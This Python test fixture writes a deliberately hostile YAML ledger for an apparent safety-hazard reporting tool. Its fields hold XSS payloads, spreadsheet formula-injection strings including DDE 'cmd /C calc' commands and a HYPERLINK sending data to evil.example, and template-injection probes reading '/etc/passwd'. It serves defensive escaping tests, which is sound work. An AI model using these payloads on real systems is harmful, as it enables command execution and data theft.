"""A ledger written by an attacker: markup, formulas, mathtext and template syntax in every
text field a report or export shows."""

from __future__ import annotations

from pathlib import Path

SCRIPT = "<script>alert('xss')</script>"
IMG = '"><img src=x onerror=alert(1)>'
COMMUNITY = "<b onmouseover=alert(2)>东风</b>"
MATH = "$\\frac{1}{0}$社区"  # matplotlib would parse $...$ as mathtext
FORMULAS = {
    "id": "=1+1",
    "location": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "responsible": "+cmd|' /C calc'!A0",
    "found_by": "-2+3",
    "measures": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "\t=1+2",
    "interim_measures": "\r=1+2",
    "category": "＝1+1",  # full-width, as a Chinese input method types it
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _yaml(value: str) -> str:
    return (
        '"'
        + value.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
        + '"'
    )


CONFIG = f"""\
organisation: {_yaml(SCRIPT + "街道")}
title: {_yaml(IMG)}
communities: [{_yaml(COMMUNITY)}, {_yaml(MATH)}]
categories: ["＝1+1", "消防设施"]
"""

ENTERPRISES = f"""\
- id: E1
  name: {_yaml("=cmd|' /C calc'!A0")}
  kind: 物业企业
  community: {_yaml(COMMUNITY)}
  principal: {_yaml(SCRIPT)}
  high_risk: 否
- id: E2
  name: "{{{{ 7*7 }}}}超市"
  kind: business
  community: {_yaml(MATH)}
  principal: {_yaml(IMG)}
"""


def hazards() -> str:
    first = {
        "found_on": "2025-04-02",
        "enterprise": "E1",
        "level": "general",
        "description": SCRIPT + IMG,
        "deadline": "2025-04-20",
        "rectified_on": "2025-04-10",
        "community": COMMUNITY,
        **FORMULAS,
    }
    second = {
        "id": "H-2",
        "found_on": "2025-05-02",
        "enterprise": "E2",
        "location": "{{ ''.__class__.__mro__ }}",
        "category": "消防设施",
        "level": "general",
        "description": "{% include '/etc/passwd' %}" + MATH,
        "responsible": "王五",
        "deadline": "2025-05-20",
        "community": MATH,
    }
    out = []
    for rec in (first, second):
        lines = [f"  {k}: {_yaml(v)}" for k, v in rec.items()]
        out.append("-" + "\n".join(lines)[1:])
    return "\n".join(out) + "\n"


def write_hostile_ledger(root: Path) -> Path:
    (root / "enterprises").mkdir(parents=True)
    (root / "hazards").mkdir()
    (root / "safeledger.yaml").write_text(CONFIG, encoding="utf-8")
    (root / "enterprises" / "e.yaml").write_text(ENTERPRISES, encoding="utf-8")
    (root / "hazards" / "h.yaml").write_text(hazards(), encoding="utf-8")
    return root
